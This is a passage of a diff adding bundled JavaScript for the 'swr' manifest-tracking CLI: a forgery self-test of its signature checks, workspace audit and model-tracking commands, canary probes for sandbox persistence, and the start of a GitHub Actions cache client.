+ * property test in npm test), then switch each defence off once to show the suite has teeth.
+ * Exit 0 when nothing was forged and nothing crashed with every defence on, else 2.
+ */
+
+
+
+/** A small deterministic PRNG (xorshift32) seeded from --seed or random bytes. */
+function prng(seed) {
+    let x = (0,external_node_crypto_.createHash)('sha256').update(seed).digest().readUInt32LE(0) || 1;
+    return () => {
+        x ^= x << 13;
+        x ^= x >>> 17;
+        x ^= x << 5;
+        return x >>> 0;
+    };
+}
+async function attacktestCommand(flags, io) {
+    const seed = flags.seed ?? (0,external_node_crypto_.randomBytes)(8).toString('hex');
+    const next = prng(seed);
+    const scenario = await buildScenario(n => (0,external_node_crypto_.createHash)('sha256').update(`${seed}/${n}`).digest());
+    const t0 = performance.now();
+    const counts = await runSuite(scenario, flags.count, next);
+    const ms = Math.round(performance.now() - t0);
+    const probes = {};
+    for (const [defence, cls] of Object.entries(DEFENCE_PROBES)) {
+        const weakened = { ...ALL_SUITE_DEFENSES, [defence]: false };
+        probes[defence] = (await runSuite(scenario, 20, next, weakened, [cls])).forgeries;
+    }
+    const ok = counts.forgeries === 0 && counts.crashes === 0;
+    const toothless = Object.entries(probes)
+        .filter(([, n]) => n === 0)
+        .map(([d]) => d);
+    if (flags.json) {
+        io.stdout.write(JSON.stringify({
+            schema: 'swr.attacktest/1',
+            seed,
+            ms,
+            ...counts,
+            defence_probes: probes,
+            ok: ok && toothless.length === 0
+        }, null, 2) + '\n');
+    }
+    else {
+        io.stdout.write(`attack suite (seed ${seed}): ${counts.attempts} mutations in ${ms} ms\n`);
+        io.stdout.write(`  refused ${counts.refused}, accepted unchanged ${counts.acceptedHonest}, forgeries ${counts.forgeries}, crashes ${counts.crashes}\n`);
+        for (const [cls, c] of Object.entries(counts.byClass).sort()) {
+            io.stdout.write(`  ${cls.padEnd(26)} ${String(c.attempts).padStart(6)} attempts  ${c.forgeries} forged  ${c.crashes} crashed\n`);
+        }
+        io.stdout.write('each defence switched off (forgeries found in 20 targeted attempts; must be > 0):\n');
+        for (const [d, n] of Object.entries(probes))
+            io.stdout.write(`  ${d.padEnd(20)} ${n}\n`);
+        io.stdout.write(ok && toothless.length === 0
+            ? 'PASS\n'
+            : `FAIL${toothless.length ? ` (defences with no effect: ${toothless.join(', ')})` : ''}\n`);
+    }
+    return ok && toothless.length === 0 ? errors_EXIT.HEALTHY : errors_EXIT.UNREPAIRABLE;
+}
+function registerAttacktest(program, { io, run }) {
+    withGlobals(program.command('attacktest'))
+        .description('attack a signed manifest with generated forgeries against this build; exit 0 when none succeeds')
+        .option('--count <n>', 'mutations to try (default 10000)', intOption('--count', 1, 10_000_000), 10_000)
+        .option('--seed <text>', 'repeat a run exactly')
+        .action((flags) => run(() => attacktestCommand(flags, io)));
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/author/shared.ts
+/**
+ * Plumbing the authoring commands share, so that they all find the workspace, capture, save and
+ * report the same way: a read-only scan falls back to the current directory when there is no
+ * manifest, captures go through the same path as `swr add` (ids never collide, swr's own files
+ * are never tracked), saves follow the editing rules (saveEdited), and every added entry, new
+ * manifest and signature is reported in one wording.
+ */
+
+
+
+
+
+/** The manifest a read-only scan compares with, or none: then nothing is tracked (cwd is scanned). */
+function readView(flags, io) {
+    const located = manifestLocation(flags, io);
+    if (located.how !== 'new' && external_node_fs_default().existsSync(located.file)) {
+        const m = loadManifest(located.file, { workspace: flags.workspace, cwd: io.cwd });
+        return { file: m.file, workspace: m.workspace, entries: m.body.entries, found: true };
+    }
+    const dir = external_node_path_default().resolve(io.cwd, flags.workspace ?? '.');
+    if (!external_node_fs_default().statSync(dir, { throwIfNoEntry: false })?.isDirectory())
+        throw new UsageError(`workspace ${dir} is not a directory`);
+    const workspace = external_node_fs_default().realpathSync(dir);
+    if (workspace === '/')
+        throw new UsageError('workspace "/" is refused: describe a directory, not the whole machine');
+    return { file: located.file, workspace, entries: [], found: false };
+}
+function shared_shown(io, file) {
+    return external_node_path_default().relative(io.cwd, file) || file;
+}
+function target(flags) {
+    return { manifest: flags.manifest, workspace: flags.workspace };
+}
+function exclusions(file, io) {
+    return ownPaths(file, stateDir(io));
+}
+async function captureAll(m, requests, io, jobs) {
+    const taken = new Set(m.doc.body.entries.map(e => e.id));
+    const exclude = exclusions(m.file, io);
+    const out = [];
+    for (const req of requests) {
+        const c = await captureEntry(m.workspace, req, taken, {
+            pool: { jobs },
+            exclude,
+            stateDir: stateDir(io)
+        });
+        taken.add(c.entry.id);
+        out.push(c);
+    }
+    return out;
+}
+/** Append the captured entries and save under the editing rules, with their tree indexes. */
+function saveAdded(m, added, io) {
+    m.doc.body.entries.push(...added.map(a => a.entry));
+    const sidecars = new Map(added.flatMap(a => (a.index ? [[indexPath(m.file, a.entry.id), a.index]] : [])));
+    return saveEdited(m.file, m.doc, { resign: m.resign, created: m.created, sidecars }, io);
+}
+function signedLine(saved, m) {
+    return saved.signed
+        ? `signed version ${saved.version}, digest ${saved.digest}\n`
+        : `note: ${saved.note ?? m.note ?? 'manifest is unsigned: run "swr sign" to approve it'}\n`;
+}
+function savedJson(saved) {
+    return saved
+        ? { written: true, signed: saved.signed, version: saved.version, digest: saved.digest }
+        : { written: false };
+}
+function printJson(io, doc) {
+    io.stdout.write(JSON.stringify(doc, null, 2) + '\n');
+}
+function size(bytes) {
+    const units = ['B', 'KiB', 'MiB', 'GiB', 'TiB'];
+    let v = bytes;
+    let u = 0;
+    while (v >= 1024 && u < units.length - 1) {
+        v /= 1024;
+        u++;
+    }
+    return u === 0 ? `${bytes} B` : `${v.toFixed(1)} ${units[u]}`;
+}
+function count(files) {
+    return `${files.toLocaleString('en-US')} ${files === 1 ? 'file' : 'files'}`;
+}
+function addedLine(e) {
+    const extra = e.kind === 'tree'
+        ? `, ${(e.expect.files ?? 0).toLocaleString('en-US')} files, sentinels: ${escapeText(e.expect.sentinels.join(', ')) || 'none'}`
+        : e.kind === 'link'
+            ? `, -> ${escapeText(e.expect.target)}`
+            : `, ${e.expect.size.toLocaleString('en-US')} bytes`;
+    return `added ${e.kind} "${escapeText(e.id)}" (${escapeText(e.path)}, tier ${e.tier}${extra})\n`;
+}
+function createdLine(io, m) {
+    return m.created ? `created ${shared_shown(io, m.file)} describing ${escapeText(m.workspace)}\n` : '';
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/author/audit.ts
+/**
+ * `swr audit`: the read-only first look. It works with no manifest at all (then nothing counts as
+ * tracked), so it can show what is worth protecting before anything is written, and every row
+ * carries the `swr add` line that tracks it, spelled relative to the current directory so it can
+ * be pasted as is.
+ */
+
+
+
+const DEFAULT_AUDIT_LIMIT = 20;
+function auditCommand(flags, io) {
+    const view = readView(flags, io);
+    const result = auditWorkspace(view.workspace, view.entries, exclusions(view.file, io));
+    const limit = flags.limit ?? DEFAULT_AUDIT_LIMIT;
+    const rows = result.rows.slice(0, limit).map(r => withCommand(r, view, io, target(flags)));
+    if (flags.json) {
+        printJson(io, {
+            schema: 'swr.audit/1',
+            manifest: view.found ? view.file : null,
+            workspace: view.workspace,
+            limit,
+            total: result.rows.length,
+            truncated_scan: result.truncated,
+            candidates: rows
+        });
+        return errors_EXIT.HEALTHY;
+    }
+    if (flags.quiet && rows.length === 0)
+        return errors_EXIT.HEALTHY;
+    const out = [
+        view.found
+            ? `workspace ${escapeText(view.workspace)} (manifest ${shared_shown(io, view.file)}, ${view.entries.length} entries)\n`
+            : `no manifest found: nothing counts as tracked; scanning ${escapeText(view.workspace)}\n`
+    ];
+    for (const r of rows)
+        out.push(`${r.kind.padEnd(4)} ${size(r.bytes).padStart(10)} ${count(r.files).padStart(13)}  ${escapeText(r.path)}\n     ${escapeText(r.command)}\n`);
+    if (rows.length === 0)
+        out.push('nothing untracked worth protecting\n');
+    if (result.rows.length > rows.length)
+        out.push(`${result.rows.length - rows.length} more: --limit ${result.rows.length} shows them all\n`);
+    if (result.truncated)
+        out.push('note: the scan stopped early; the workspace is very large\n');
+    io.stdout.write(out.join(''));
+    return errors_EXIT.HEALTHY;
+}
+function withCommand(r, view, io, t) {
+    const arg = external_node_path_default().relative(io.cwd, external_node_path_default().join(view.workspace, r.path)) || '.';
+    return {
+        kind: r.kind,
+        path: r.path,
+        bytes: r.bytes,
+        files: r.files,
+        command: addCommand(arg, r.ignore, t)
+    };
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/author/autopilot.ts
+/**
+ * `swr autopilot`: bring a manifest up to date in one step, safely enough to run again and again.
+ * It edits under the manifest lock and never overwrites a manifest that appeared meanwhile; a new
+ * manifest is written only when something was added. Tracking only detects a loss, so it ends by
+ * naming the entries that have no way back (no recipe, cache source or escrow) and how to add one.
+ */
+
+
+
+
+function autopilotCommand(flags, io) {
+    return withManifestLock(flags, io, async () => {
+        const m = await openForEdit(flags, io);
+        const plan = planAutopilot(m.workspace, m.doc.body.entries, exclusions(m.file, io));
+        const added = await captureAll(m, plan.requests, io, flags.jobs);
+        const saved = added.length > 0 ? await saveAdded(m, added, io) : undefined;
+        const missing = saved || !m.created ? m.doc.body.entries.filter(lacksRecipe) : [];
+        const t = target(flags);
+        if (flags.json) {
+            printJson(io, {
+                schema: 'swr.autopilot/1',
+                manifest: m.file,
+                workspace: m.workspace,
+                created: m.created && saved !== undefined,
+                added: added.map(a => a.entry),
+                skipped: plan.skipped,
+                truncated_scan: plan.truncated,
+                no_recipe: missing.map(e => ({
+                    id: e.id,
+                    kind: e.kind,
+                    path: e.path,
+                    escrow: escrowHint(e, t) ?? null
+                })),
+                how_to_add_recipe: recipeHint(shared_shown(io, m.file), t),
+                ...savedJson(saved)
+            });
+        }
+        else if (!flags.quiet) {
+            io.stdout.write(autopilotText(io, m, added, plan.skipped, saved, missing, t));
+        }
+        return errors_EXIT.HEALTHY;
+    });
+}
+function autopilotText(io, m, added, skipped, saved, missing, t) {
+    const out = [saved ? createdLine(io, m) : ''];
+    for (const a of added)
+        out.push(addedLine(a.entry));
+    for (const s of skipped)
+        out.push(`skipped ${s.path}: ${s.why}\n`);
+    if (added.length === 0)
+        out.push(m.created
+            ? `nothing to track in ${m.workspace}; no manifest written\n`
+            : 'nothing new to track: every top-level source tree, script and large file is tracked\n');
+    if (saved)
+        out.push(signedLine(saved, m));
+    if (missing.length > 0) {
+        const n = missing.length;
+        out.push(`${n} ${n === 1 ? 'entry has' : 'entries have'} no restore recipe, cache source or escrow:\n`);
+        for (const e of missing) {
+            const esc = escrowHint(e, t);
+            out.push(`  ${e.id} (${e.kind} ${e.path})${esc ? `: or ${esc}` : ''}\n`);
+        }
+        out.push(`to add one: ${recipeHint(shared_shown(io, m.file), t)}\n`);
+    }
+    return out.join('');
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/author/models.ts
+/**
+ * `swr models`: model weights are the files most worth tracking and the easiest to miss, since
+ * they hide in caches. Listing is read-only and needs no manifest, so it is safe to run anywhere;
+ * only --apply takes the lock and edits. An id is derived from the name a model was found under
+ * (a Hugging Face snapshot link rather than its content-addressed blob), so it stays readable, and
+ * the list printed after --apply already shows the new entries as tracked.
+ */
+
+
+
+
+const models_MIB = 1024 * 1024;
+function modelJson(x) {
+    return {
+        path: x.path,
+        bytes: x.bytes,
+        ...(x.via ? { via: x.via } : {}),
+        tracked_by: x.tracked?.id ?? null,
+        tracked_as: x.tracked ? (x.tracked.exact ? 'entry' : 'inside tree') : null
+    };
+}
+function modelLine(x) {
+    const state = x.tracked
+        ? x.tracked.exact
+            ? `tracked by "${x.tracked.id}"`
+            : `inside tree "${x.tracked.id}"`
+        : 'untracked';
+    return `${size(x.bytes).padStart(10)}  ${escapeText(x.path)}  ${state}${x.via ? `  (via ${escapeText(x.via)})` : ''}\n`;
+}
+async function modelsCommand(flags, io) {
+    const minBytes = flags.minMb === undefined ? DEFAULT_MIN_MODEL_BYTES : flags.minMb * models_MIB;
+    if (flags.fullHash && !flags.apply)
+        throw new UsageError('--full-hash goes with --apply');
+    if (!flags.apply) {
+        const view = readView(flags, io);
+        const scan = findModels(view.workspace, view.entries, exclusions(view.file, io), minBytes);
+        const where = { workspace: view.workspace, manifest: view.found ? view.file : null };
+        printModels(io, flags, where, scan, minBytes);
+        return errors_EXIT.HEALTHY;
+    }
+    return withManifestLock(flags, io, async () => {
+        const m = await openForEdit(flags, io);
+        const scan = findModels(m.workspace, m.doc.body.entries, exclusions(m.file, io), minBytes);
+        const taken = new Set(m.doc.body.entries.map(e => e.id));
+        const added = [];
+        for (const x of scan.models.filter(y => !y.tracked)) {
+            const id = deriveId(x.via ?? x.path, taken);
+            const opts = { fullHash: flags.fullHash === true, pool: { jobs: flags.jobs } };
+            added.push(await captureModel(m.workspace, { path: x.path, id }, taken, opts));
+            taken.add(id);
+        }
+        const saved = added.length > 0 ? await saveAdded(m, added, io) : undefined;
+        const now = new Map(added.map(a => [a.entry.path, a.entry.id]));
+        const models = scan.models.map(x => {
+            const id = now.get(x.path);
+            return id === undefined ? x : { ...x, tracked: { id, exact: true } };
+        });
+        const where = { workspace: m.workspace, manifest: m.file };
+        printModels(io, flags, where, { ...scan, models }, minBytes, { added, saved, m });
+        return errors_EXIT.HEALTHY;
+    });
+}
+function printModels(io, flags, where, scan, minBytes, applied) {
+    if (flags.json) {
+        printJson(io, {
+            schema: 'swr.models/1',
+            manifest: where.manifest,
+            workspace: where.workspace,
+            min_bytes: minBytes,
+            truncated_scan: scan.truncated,
+            models: scan.models.map(modelJson),
+            applied: applied !== undefined,
+            ...(applied ? { added: applied.added.map(a => a.entry), ...savedJson(applied.saved) } : {})
+        });
+        return;
+    }
+    if (flags.quiet)
+        return;
+    const out = scan.models.map(modelLine);
+    if (scan.models.length === 0)
+        out.push(`no model files of ${size(minBytes)} or more\n`);
+    const untracked = scan.models.filter(x => !x.tracked).length;
+    if (!applied && untracked > 0)
+        out.push(`${untracked} untracked: "swr models --apply" tracks them as blob entries (tier 3)\n`);
+    if (applied) {
+        if (applied.saved)
+            out.push(createdLine(io, applied.m));
+        for (const a of applied.added)
+            out.push(addedLine(a.entry));
+        if (applied.saved)
+            out.push(signedLine(applied.saved, applied.m));
+        else
+            out.push('nothing to add: every model listed is tracked\n');
+    }
+    if (scan.truncated)
+        out.push('note: the scan stopped early; the workspace is very large\n');
+    io.stdout.write(out.join(''));
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/author/preset.ts
+/**
+ * `swr preset`: preset paths are written relative to $HOME, yet they are resolved under whatever
+ * workspace the manifest describes, so a note says so when that workspace is not $HOME. Secrets
+ * among the added files are pointed out, because they are tracked by hash only and will never be
+ * escrowed. `--list` edits nothing and takes no lock.
+ */
+
+
+
+
+
+
+function presetCommand(name, flags, io) {
+    if (flags.list)
+        return Promise.resolve(listPresets(name, flags, io));
+    if (name === undefined)
+        throw new UsageError(`preset: name one of ${PRESETS.map(p => p.name).join(', ')} (or --list to see their paths)`);
+    const preset = presetNamed(name);
+    return withManifestLock(flags, io, async () => {
+        const m = await openForEdit(flags, io);
+        const plan = planPreset(m.workspace, preset, m.doc.body.entries);
+        const added = await captureAll(m, plan.requests, io, flags.jobs);
+        const saved = added.length > 0 ? await saveAdded(m, added, io) : undefined;
+        const home = realOrSelf(io.home);
+        const note = m.workspace === home
+            ? undefined
+            : `workspace ${m.workspace} is not $HOME (${io.home}): preset paths were resolved under the workspace`;
+        const secrets = added.filter(a => isSecretPath(a.entry.path)).map(a => a.entry.id);
+        if (flags.json) {
+            printJson(io, {
+                schema: 'swr.preset/1',
+                preset: preset.name,
+                manifest: m.file,
+                workspace: m.workspace,
+                workspace_is_home: note === undefined,
+                added: added.map(a => a.entry),
+                secrets,
+                skipped: plan.skipped,
+                absent: plan.absent,
+                ...savedJson(saved)
+            });
+        }
+        else if (!flags.quiet) {
+            const out = note ? [`note: ${note}\n`] : [];
+            out.push(saved ? createdLine(io, m) : '');
+            for (const a of added)
+                out.push(addedLine(a.entry).replace(/\n$/, secrets.includes(a.entry.id) ? ', secret: never escrowed\n' : '\n'));
+            for (const s of plan.skipped)
+                out.push(`skipped ${s.path}: ${s.why}\n`);
+            if (!saved)
+                out.push(`nothing to add: no path of preset "${preset.name}" exists here untracked\n`);
+            else
+                out.push(signedLine(saved, m));
+            io.stdout.write(out.join(''));
+        }
+        return errors_EXIT.HEALTHY;
+    });
+}
+function realOrSelf(p) {
+    try {
+        return external_node_fs_default().realpathSync(p);
+    }
+    catch {
+        return external_node_path_default().resolve(p);
+    }
+}
+function listPresets(name, flags, io) {
+    const presets = name === undefined ? PRESETS : [presetNamed(name)];
+    if (flags.json) {
+        printJson(io, {
+            schema: 'swr.presets/1',
+            presets: presets.map(p => ({
+                name: p.name,
+                description: p.description,
+                paths: p.paths.map(x => ({ path: x, secret: isSecretPath(x.replace(/\*/g, 'x')) }))
+            }))
+        });
+        return errors_EXIT.HEALTHY;
+    }
+    const out = [];
+    for (const p of presets) {
+        out.push(`${p.name}: ${p.description}\n`);
+        for (const x of p.paths)
+            out.push(`  ~/${x}${isSecretPath(x.replace(/\*/g, 'x')) ? '  (secret)' : ''}\n`);
+    }
+    io.stdout.write(out.join(''));
+    return errors_EXIT.HEALTHY;
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/author/retighten.ts
+/**
+ * `swr retighten`: loose tree bounds let a partial wipe pass unnoticed. New bounds are taken only
+ * from trees that verify now (they are checked first, like `swr check`), so a tree that is already
+ * damaged never gets its damage written into its bounds. It edits an existing manifest only:
+ * there is nothing to tighten in one that is not there yet.
+ */
+
+
+
+
+
+
+
+function retightenCommand(flags, io) {
+    return withManifestLock(flags, io, async () => {
+        const m = await openForEdit(flags, io);
+        if (m.created)
+            throw new UsageError(`no manifest at ${m.file}: nothing to retighten`);
+        const trees = treesToRetighten(m.doc.body.entries, flags.only);
+        const findings = trees.length === 0
+            ? []
+            : (await checkManifest(loadManifest(m.file, { workspace: flags.workspace, cwd: io.cwd }), {
+                only: trees.map(t => t.id),
+                jobs: flags.jobs,
+                stateDir: stateDir(io),
+                version: VERSION,
+                command: 'retighten'
+            })).results;
+        const plan = planRetighten(trees, findings);
+        let saved;
+        if (plan.changes.length > 0) {
+            applyRetighten(m.doc.body.entries, plan.changes);
+            saved = await saveEdited(m.file, m.doc, { resign: m.resign, created: false }, io);
+        }
+        if (flags.json) {
+            printJson(io, {
+                schema: 'swr.retighten/1',
+                manifest: m.file,
+                trees: trees.length,
+                changes: plan.changes,
+                skipped: plan.skipped,
+                ...savedJson(saved)
+            });
+        }
+        else if (!flags.quiet) {
+            io.stdout.write(retightenText(plan.changes, plan.skipped, saved, m, trees.length));
+        }
+        return errors_EXIT.HEALTHY;
+    });
+}
+function retightenText(changes, skipped, saved, m, trees) {
+    const out = changes.map(c => `tightened "${c.id}": ${c.field} ${c.from ?? 'none'} -> ${c.to}\n`);
+    for (const s of skipped)
+        out.push(`skipped "${s.id}": ${s.why}\n`);
+    if (saved)
+        out.push(signedLine(saved, m));
+    else
+        out.push(trees === 0
+            ? 'no tree entries: nothing to retighten; manifest unchanged\n'
+            : 'nothing to tighten: bounds already match what is on disk; manifest unchanged\n');
+    return out.join('');
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/author/register.ts
+
+
+
+
+
+
+
+function registerAuthorCommands(program, { io, run }) {
+    withGlobals(program.command('audit'))
+        .description('list untracked files and directories worth protecting, largest first, each with the "swr add" line that tracks it (read-only; volatile directories are skipped)')
+        .option('--limit <n>', `rows to show (default ${DEFAULT_AUDIT_LIMIT})`, intOption('--limit', 1, 1_000_000))
+        .action((flags) => run(() => auditCommand(flags, io)));
+    editing(withGlobals(program.command('autopilot')))
+        .description('create the manifest if there is none (never overwrites one), then track each top-level source tree, top-level script and large file not yet tracked; trees get marker sentinels and ignore volatile directories')
+        .action((flags) => run(() => autopilotCommand(flags, io)));
+    editing(withGlobals(program.command('models')))
+        .description('list model files (.gguf .safetensors .onnx .bin .pt .pth .ckpt) of any size from --min-mb up, caches included, and whether each is tracked; --apply tracks the untracked ones as tier-3 blobs')
+        .option('--min-mb <n>', 'smallest model to list, in MiB (default 1)', intOption('--min-mb', 0, 16 * 1024 * 1024))
+        .option('--apply', 'track every untracked model listed as a blob entry (tier 3): size and head/tail digest, 2 MiB read per model')
+        .option('--full-hash', 'with --apply: also record each full sha256 for "check --deep" (reads every byte)')
+        .action((flags) => run(() => modelsCommand(flags, io)));
+    editing(withGlobals(program.command('retighten')))
+        .description('raise loose tree bounds to the file count on disk now, never loosening them (min_files up, max_files down); trees that do not verify now are skipped')
+        .option('--only <id...>', 'retighten only these tree entries')
+        .action((flags) => run(() => retightenCommand(flags, io)));
+    editing(withGlobals(program.command('preset')))
+        .description(`track the setup files of a common sandbox that exist and are not tracked yet, relative to the workspace (meant for ~/.swr/manifest.json describing $HOME); secrets become tier-0 file entries that are never escrowed. Presets: ${PRESETS.map(p => p.name).join(', ')}`)
+        .argument('[name]', 'preset to apply')
+        .option('--list', 'list the presets and their paths (with NAME: that preset only)')
+        .action((name, flags) => run(() => presetCommand(name, flags, io)));
+}
+function editing(cmd) {
+    return lockOption(jobsOption(approveOption(cmd)));
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/canary.ts
+/**
+ * `swr canary plant|read|clean`: measure what this runner, cache or sandbox keeps. Probes go into
+ * real locations (see core/canary/locations.ts); the ledger and the history live in the private
+ * state directory, locked while a command changes them.
+ */
+
+
+
+
+
+
+function realDir(p) {
+    try {
+        return external_node_fs_default().realpathSync(p);
+    }
+    catch {
+        return external_node_path_default().resolve(p);
+    }
+}
+/**
+ * The workspace probes anchor to: --workspace, else the manifest's workspace when there is one,
+ * else the current directory. A canary needs no manifest.
+ */
+function canaryAnchors(flags, io) {
+    let workspace = flags.workspace ? external_node_path_default().resolve(io.cwd, flags.workspace) : undefined;
+    if (!workspace) {
+        const located = manifestLocation(flags, io);
+        workspace =
+            located.how !== 'new' && external_node_fs_default().existsSync(located.file)
+                ? loadManifest(located.file, { cwd: io.cwd }).workspace
+                : io.cwd;
+    }
+    if (!external_node_fs_default().statSync(workspace, { throwIfNoEntry: false })?.isDirectory())
+        throw new UsageError(`workspace ${workspace} is not a directory`);
+    return {
+        workspace: realDir(workspace),
+        home: realDir(io.home),
+        tmp: realDir(io.env.TMPDIR || external_node_os_default().tmpdir())
+    };
+}
+async function locked(io, fn) {
+    const dir = stateDir(io);
+    const subject = ledgerPath(dir);
+    const release = await lockWorkspace({
+        stateDir: dir,
+        subject,
+        waitMs: DEFAULT_LOCK_WAIT_S * 1000,
+        abort: io.abort,
+        onWait: holder => void io.stderr.write(`swr: waiting for the canary lock (${holder})\n`)
+    });
+    try {
+        return fn();
+    }
+    finally {
+        await release();
+    }
+}
+function describePlant(r) {
+    const l = r.ledger;
+    const lines = [];
+    if (r.replaced)
+        lines.push(`removed ${r.replaced.removed} probes of the previous planting ${r.replaced.plant_id}`);
+    lines.push(`planted canary ${l.plant_id}: ${l.probes.length} probes in ${l.locations.length} locations${l.large_bytes > 0 ? ` (large probe ${l.large_bytes.toLocaleString('en-US')} bytes)` : ''}`);
+    for (const loc of l.locations) {
+        const n = l.probes.filter(p => p.location === loc.id).length;
+        lines.push(`  ${escapeText(loc.id).padEnd(24)} ${String(n).padStart(3)} probes  ${escapeText(abbreviate(showAnchored(loc.dir)))}`);
+    }
+    lines.push('read them after the next wipe, restore or cache round trip with "swr canary read"');
+    return lines.join('\n') + '\n';
+}
+async function canaryPlant(flags, io) {
+    const anchors = canaryAnchors(flags, io);
+    const result = await locked(io, () => plantCanaries({
+        stateDir: stateDir(io),
+        anchors,
+        at: (flags.at ?? []).map(a => external_node_path_default().resolve(io.cwd, a)),
+        volatile: flags.volatile ?? [],
+        includeHome: flags.home,
+        includeTmp: flags.tmp,
+        ...(flags.largeBytes !== undefined ? { largeBytes: flags.largeBytes } : {}),
+        replace: flags.replace === true,
+        context: runContext(io.env)
+    }));
+    if (flags.json)
+        io.stdout.write(JSON.stringify({ schema: 'swr.canary-plant/1', ...result }, null, 2) + '\n');
+    else if (!flags.quiet)
+        io.stdout.write(describePlant(result));
+    return errors_EXIT.HEALTHY;
+}
+async function canaryRead(flags, io) {
+    const anchors = canaryAnchors(flags, io);
+    const dir = stateDir(io);
+    const { reading, cleaned } = await locked(io, () => {
+        const reading = readCanaries({
+            stateDir: dir,
+            anchors,
+            context: runContext(io.env),
+            history: historyLimits(io)
+        });
+        if (!flags.clean)
+            return { reading, cleaned: undefined };
+        const ledger = readLedger(dir);
+        const cleaned = ledger ? cleanLedger(ledger, anchors) : undefined;
+        removeLedger(dir);
+        return { reading, cleaned };
+    });
+    if (flags.json)
+        io.stdout.write(JSON.stringify(cleaned ? { ...reading, cleaned } : reading, null, 2) + '\n');
+    else if (!flags.quiet || reading.totals.altered + reading.totals.lost > 0) {
+        io.stdout.write(renderCanaryText(reading));
+        if (cleaned)
+            io.stdout.write(`cleaned: ${cleaned.removed.length} removed, ${cleaned.kept.length} kept\n`);
+    }
+    return reading.totals.altered + reading.totals.lost === 0 ? errors_EXIT.HEALTHY : errors_EXIT.DAMAGED;
+}
+async function canaryClean(flags, io) {
+    const anchors = canaryAnchors(flags, io);
+    const dir = stateDir(io);
+    const result = await locked(io, () => {
+        const ledger = readLedger(dir);
+        if (!ledger)
+            return undefined;
+        const cleaned = cleanLedger(ledger, anchors);
+        removeLedger(dir);
+        return { plant_id: ledger.plant_id, ...cleaned };
+    });
+    if (flags.json)
+        io.stdout.write(JSON.stringify({ schema: 'swr.canary-clean/1', ...(result ?? { removed: [], kept: [] }) }, null, 2) + '\n');
+    else if (!flags.quiet) {
+        if (!result)
+            io.stdout.write('nothing planted: nothing to clean\n');
+        else {
+            io.stdout.write(`canary ${result.plant_id}: removed ${result.removed.length} paths\n`);
+            for (const k of result.kept)
+                io.stdout.write(`  kept ${escapeText(k.path)}: ${escapeText(k.why)}\n`);
+        }
+    }
+    return errors_EXIT.HEALTHY;
+}
+function registerCanary(program, { io, run }) {
+    const canary = program
+        .command('canary')
+        .description('measure what this runner, cache or sandbox keeps: plant probes, read them later');
+    withGlobals(canary.command('plant'))
+        .description('plant probes (exec bits, private modes, links, hard links, empty dirs, long and non-ASCII names, dotfiles, a large file) in the workspace, a deep path, volatile dirs, $HOME, the temp dir and every --at path; never overwrites a file')
+        .option('--at <path>', 'also plant in this directory (repeatable; created if missing)', collect)
+        .option('--volatile <name>', 'also plant under this workspace directory name (repeatable; created if missing; refused when it is a symlink)', collect)
+        .option('--large-bytes <n>', 'size of the large probe (default 67108864; 0 plants none)', intOption('--large-bytes', 0, 16 * 1024 * 1024 * 1024))
+        .option('--no-home', 'do not plant in $HOME')
+        .option('--no-tmp', 'do not plant in the temp directory')
+        .option('--replace', 'discard a planting that was never read (its probes are removed first)')
+        .action((flags) => run(() => canaryPlant(flags, io)));
+    withGlobals(canary.command('read'))
+        .description('compare every probe with the ledger (intact, altered and how, lost), by class and location; records the result in the history; exit 1 when any probe changed')
+        .option('--clean', 'remove the probes and the ledger after reading')
+        .action((flags) => run(() => canaryRead(flags, io)));
+    withGlobals(canary.command('clean'))
+        .description('remove exactly the planted probes (and the directories the planting created, when empty)')
+        .action((flags) => run(() => canaryClean(flags, io)));
+}
+
+;// CONCATENATED MODULE: ./src/adapters/cache-service.ts
+
+
+
+const SERVICE = 'github.actions.results.api.v1.CacheService';
+const VERSION_SALT = '1.0';
+/** The client's names for the compressions it writes (zstd is always without --long now). */
+const METHODS = [
+    ['zstd-without-long', 'zstd'],
+    ['gzip', 'gzip']
+];
+/** The cache version @actions/cache computes for `paths` saved with `method` (not on Windows). */
+function cacheVersion(paths, method) {
+    return (0,external_node_crypto_.createHash)('sha256')
+        .update([...paths, method, VERSION_SALT].join('|'))
+        .digest('hex');
+}
+/** How the archive names `abs`: relative to the job's workspace (the client's tar -C), POSIX. */
+function archivePrefix(abs, env) {
+    const ws = env.GITHUB_WORKSPACE || process.cwd();
+    return external_node_path_default().relative(ws, external_node_path_default().resolve(abs)).split((external_node_path_default()).sep).join('/') || '.';
+}
+/** The path spellings whose versions are asked for: absolute, then workspace-relative. */
+function pathForms(abs, env) {
+    const forms = [external_node_path_default().resolve(abs), archivePrefix(abs, env)];
+    return [...new Set(forms)];
+}
+function isGhes(env) {
+    const host = new URL(env.GITHUB_SERVER_URL || 'https://github.com').hostname.toUpperCase();
+    return !(host === 'GITHUB.COM' || host.endsWith('.GHE.COM') || host.endsWith('.LOCALHOST'));
+}
+/** Loaded on first use: most CLI commands never talk to the cache, and the client is large. */
+let httpModule;
+async function newHttpClient(...args) {
+    httpModule ??= __nccwpck_require__.e(/* import() */ 942).then(__nccwpck_require__.bind(__nccwpck_require__, 4942));
+    return new (await httpModule).HttpClient(...args);
+}
+class CacheService {
+    env;
+    httpClient;
+    http() {
+        this.httpClient ??= newHttpClient('swr', [], { allowRetries: true, maxRetries: 2 });
+        return this.httpClient;
+    }
+    constructor(env) {
+        this.env = env;
+    }
+    get v2() {
+        return !isGhes(this.env) && Boolean(this.env.ACTIONS_CACHE_SERVICE_V2);
+    }
+    auth() {
+        return { Authorization: `Bearer ${this.env.ACTIONS_RUNTIME_TOKEN ?? ''}` };
+    }
+    /** One lookup of `keys` under one version; undefined on a miss. Throws when unreachable. */
+    async ask(key, restoreKeys, version) {
+        if (this.v2) {
+            const base = this.env.ACTIONS_RESULTS_URL ?? '';
+            const url = new URL(`/twirp/${SERVICE}/GetCacheEntryDownloadURL`, base).href;
+            const res = await (await this.http()).post(url, JSON.stringify({ key, restore_keys: restoreKeys, version }), {
+                ...this.auth(),
+                'Content-Type': 'application/json',
+                Accept: 'application/json'
+            });
+            const body = await res.readBody();
+            if (res.message.statusCode !== 200)
+                throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
+            const r = JSON.parse(body);
